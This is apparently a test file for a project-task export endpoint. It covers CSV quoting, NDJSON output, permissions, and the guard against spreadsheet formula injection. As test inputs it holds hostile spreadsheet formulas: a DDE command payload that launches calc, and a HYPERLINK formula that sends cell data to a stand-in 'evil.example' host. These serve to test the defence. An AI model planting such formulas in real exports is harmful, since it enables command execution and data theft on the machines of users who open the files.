import { describe, expect, test } from 'bun:test'
import { sql } from 'drizzle-orm'
import { csvCell, csvRow } from '../../../src/lib/csv'
import { exportFormat } from '../../../src/modules/tasks/export'
import { createUser, expectProblem } from '../../helpers/app'
import { API, makeProject, makeTask, team, testApp } from '../../helpers/projects-fixtures'

/** A minimal RFC 4180 parser for checking the output. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(cell)
      cell = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += ch
  }
  return rows
}

/** Undoes the export's formula guard: one leading `'` before `'*` and a trigger is the guard. */
const unguard = (s: string) => (/^'+[=+\-@\t\r]/.test(s) ? s.slice(1) : s)

describe('csv helpers', () => {
  test('quotes every cell per RFC 4180; null is an empty field', () => {
    expect(csvCell('plain')).toBe('"plain"')
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"')
    expect(csvCell('')).toBe('""')
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
    expect(csvCell(42)).toBe('"42"')
    expect(csvCell([])).toBe('""')
    expect(csvCell(new Date('2026-01-01T00:00:00Z'))).toBe('"2026-01-01T00:00:00.000Z"')
    expect(csvRow(['a', 1, null, 'b'])).toBe('"a","1",,"b"\r\n')
  })

  test('every formula trigger (= + - @ TAB CR) at the start of a value gets one leading quote', () => {
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual([
      `"'=1+1"`,
      `"'+1"`,
      `"'-1"`,
      `"'@SUM(A1)"`,
      `"'\tx"`,
      `"'\rx"`,
    ])
    // a value that already looks guarded gets one more, so the guard can always be undone exactly
    expect(csvCell("'=1+1")).toBe(`"''=1+1"`)
    expect(csvCell("'plain")).toBe(`"'plain"`)
    // triggers inside a value are left alone: the quoted cell is one cell for any RFC 4180 reader
    expect(csvCell('a,=1+1;@x')).toBe('"a,=1+1;@x"')
  })

  test('labels are guarded one by one before joining (issue 14 #15), and each ;-piece of a label too', () => {
    expect(csvCell(['ok', '=HYPERLINK("http://evil")'])).toBe(`"ok;'=HYPERLINK(""http://evil"")"`)
    expect(csvCell(['=a', 'b'])).toBe(`"'=a;b"`)
    expect(csvCell(['x', '+1', '-1', '@cmd', '\tt', '\rr'])).toBe(`"x;'+1;'-1;'@cmd;'\tt;'\rr"`)
    // a label may itself contain the separator: whoever splits the cell on ; gets no formula either
    expect(csvCell(['a;=cmd|calc', "'-x"])).toBe(`"a;'=cmd|calc;''-x"`)
  })

  test('hostile values survive an RFC 4180 parse and round-trip apart from the guard', () => {
    const alphabet = [
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '\r\n',
      '"',
      "'",
      ',',
      ';',
      ' ',
      'a',
      'Z',
      '1',
      'é',
    ]
    let seed = 7
    const rand = (n: number) => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0
      return (seed >>> 16) % n
    }
    const word = () => Array.from({ length: 1 + rand(8) }, () => alphabet[rand(alphabet.length)]).join('')
    for (let i = 0; i < 500; i++) {
      const title = word()
      const description = rand(4) === 0 ? null : word()
      const labels = Array.from({ length: rand(4) }, () => word().replaceAll(';', '')).filter(Boolean)
      const rows = parseCsv(csvRow([title, description, labels, 7]) + csvRow(['next']))
      expect(rows).toHaveLength(2)
      const [t, d, l, n] = rows[0]!
      expect(unguard(t!)).toBe(title)
      expect(unguard(d!)).toBe(description ?? '')
      expect(l === '' ? [] : l!.split(';').map(unguard)).toEqual(labels)
      expect(n).toBe('7')
      for (const cell of [t!, d!, ...l!.split(';')]) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      expect(rows[1]).toEqual(['next'])
    }
  })

  test('format negotiation', () => {
    expect(exportFormat(undefined, undefined)).toBe('csv')
    expect(exportFormat(undefined, 'application/x-ndjson')).toBe('ndjson')
    expect(exportFormat('csv', 'application/x-ndjson')).toBe('csv')
    expect(exportFormat('ndjson', 'text/csv')).toBe('ndjson')
  })
})

describe('GET /projects/{id}/tasks/export', () => {
  test('CSV with header, quoting, formula protection and filters; more than one batch', async () => {
    const ctx = await testApp()
    const me = await createUser(ctx)
    const p = await makeProject(ctx, me)
    await makeTask(ctx, me, p.id, {
      title: '=HYPERLINK("http://evil")',
      description: 'multi\nline, "quoted"',
      labels: ['a', 'b'],
    })
    await makeTask(ctx, me, p.id, { title: '@cmd', status: 'done' })
    // 1100 more rows straight in SQL so the export needs three batches
    await ctx.database.rows(sql`
      insert into tasks (id, project_id, number, title, created_by)
      select gen_random_uuid(), ${p.id}, n, 'bulk ' || n, ${me.id} from generate_series(3, 1102) n`)
    const res = await ctx.req('GET', `${API}/projects/${p.id}/tasks/export`, { token: me.token })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toStartWith('text/csv')
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${p.slug}-tasks.csv"`)
    const rows = parseCsv(res.text)
    expect(rows[0]).toEqual([
      'id',
      'project_id',
      'number',
      'title',
      'description',
      'status',
      'priority',
      'assignee_id',
      'labels',
      'due_date',
      'completed_at',
      'created_by',
      'created_at',
      'updated_at',
      'version',
    ])
    expect(rows.length).toBe(1 + 1102)
    expect(rows[1]![3]).toBe(`'=HYPERLINK("http://evil")`)
    expect(rows[1]![4]).toBe('multi\nline, "quoted"')
    expect(rows[1]![8]).toBe('a;b')
    expect(rows[2]![3]).toBe("'@cmd")
    expect(rows.slice(1).map((r) => Number(r[2]))).toEqual(Array.from({ length: 1102 }, (_, i) => i + 1))
    const done = parseCsv(
      (await ctx.req('GET', `${API}/projects/${p.id}/tasks/export?status=done`, { token: me.token })).text,
    )
    expect(done.length).toBe(2)
    expect(done[1]![2]).toBe('2')
  })

  test('hostile title, description and labels: the exact CSV, parseable and round-tripping', async () => {
    const ctx = await testApp()
    const me = await createUser(ctx)
    const p = await makeProject(ctx, me)
    const hostile = {
      title: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
      description: '\t=cmd|\' /C calc\'!A0\r\n-2+3, "x";@SUM(1)',
      labels: ['ok', '=1+1', '-2', '+3', '@SUM(A1)', 'x;=cmd|calc', "'=already"],
    }
    const t = await makeTask(ctx, me, p.id, hostile)
    const res = await ctx.req('GET', `${API}/projects/${p.id}/tasks/export`, { token: me.token })
    expect(res.status).toBe(200)
    const header =
      '"id","project_id","number","title","description","status","priority","assignee_id","labels",' +
      '"due_date","completed_at","created_by","created_at","updated_at","version"\r\n'
    const row =
      `"${t.id}","${p.id}","1",` +
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",` +
      `"'\t=cmd|' /C calc'!A0\r\n-2+3, ""x"";@SUM(1)",` +
      `"todo","${t.priority}",,` +
      `"ok;'=1+1;'-2;'+3;'@SUM(A1);x;'=cmd|calc;''=already",` +
      `,,"${me.id}","${t.created_at}","${t.updated_at}","1"\r\n`
    expect(res.text).toBe(header + row)
    const [, cells] = parseCsv(res.text)
    expect(cells).toHaveLength(15)
    expect(unguard(cells![3]!)).toBe(hostile.title)
    expect(unguard(cells![4]!)).toBe(hostile.description)
    expect(cells![8]!.split(';').map(unguard)).toEqual(hostile.labels.join(';').split(';'))
    for (const cell of [...cells!, ...cells![8]!.split(';')]) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  test('NDJSON by format or Accept; one task object per line', async () => {
    const ctx = await testApp()
    const me = await createUser(ctx)
    const p = await makeProject(ctx, me)
    const t1 = await makeTask(ctx, me, p.id)
    const t2 = await makeTask(ctx, me, p.id, { priority: 'high' })
    for (const [qs, headers] of [
      ['?format=ndjson', {}],
      ['', { accept: 'application/x-ndjson' }],
    ] as const) {
      const res = await ctx.req('GET', `${API}/projects/${p.id}/tasks/export${qs}`, {
        token: me.token,
        headers,
      })
      expect(res.status).toBe(200)
      expect(res.headers.get('content-type')).toStartWith('application/x-ndjson')
      expect(res.headers.get('content-disposition')).toContain('.ndjson')
      const lines = res.text
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l))
      expect(lines.map((l) => l.id)).toEqual([t1.id, t2.id])
      expect(lines[1]).toEqual(t2)
    }
    const high = await ctx.req('GET', `${API}/projects/${p.id}/tasks/export?format=ndjson&priority=high`, {
      token: me.token,
    })
    expect(high.text.trimEnd().split('\n').length).toBe(1)
  })

  test('outsiders 404, viewers may export, bad filters 422, bad format 422', async () => {
    const ctx = await testApp()
    const { project, viewer, outsider } = await team(ctx)
    expectProblem(
      await ctx.req('GET', `${API}/projects/${project.id}/tasks/export`, { token: outsider.token }),
      404,
    )
    expect(
      (await ctx.req('GET', `${API}/projects/${project.id}/tasks/export`, { token: viewer.token })).status,
    ).toBe(200)
    expectProblem(
      await ctx.req('GET', `${API}/projects/${project.id}/tasks/export?status=x`, { token: viewer.token }),
      422,
    )
    expectProblem(
      await ctx.req('GET', `${API}/projects/${project.id}/tasks/export?format=xml`, { token: viewer.token }),
      422,
    )
    expectProblem(await ctx.req('GET', `${API}/projects/${project.id}/tasks/export`), 401)
  })
})
